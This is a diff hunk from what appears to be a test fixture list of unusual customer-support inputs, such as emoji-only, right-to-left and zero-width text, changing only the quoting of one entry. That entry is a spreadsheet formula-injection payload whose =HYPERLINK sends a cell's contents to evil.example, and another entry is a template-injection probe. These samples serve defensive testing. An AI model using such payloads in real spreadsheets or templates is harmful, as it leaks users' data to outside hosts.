@@ -78,7 +78,7 @@ _ODD = [
     ("Re: Re: Fwd: (no subject)", ">>>>> see below\n>>>> see below\n>>> see above"),
     ("ALL CAPS", "WHERE IS MY ORDER {order} I HAVE WAITED {days} DAYS!!!!!!!!!!!"),
     ("emoji only", "😡📦❓ {order} 🙏"),
-    ("=SUM(A1:A9)", "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"order {order}\")"),
+    ("=SUM(A1:A9)", '=HYPERLINK("https://evil.example/?q="&A1,"order {order}")'),
     ("right to left", "أين طردي؟ رقم الطلب {order}"),
     ("zero\u200bwidth", "the\u200b order\u200b {order}\u200b is\u200b late"),
     ("{{ system }}", "{{ 7 * 7 }} {% for x in y %} order {order}"),
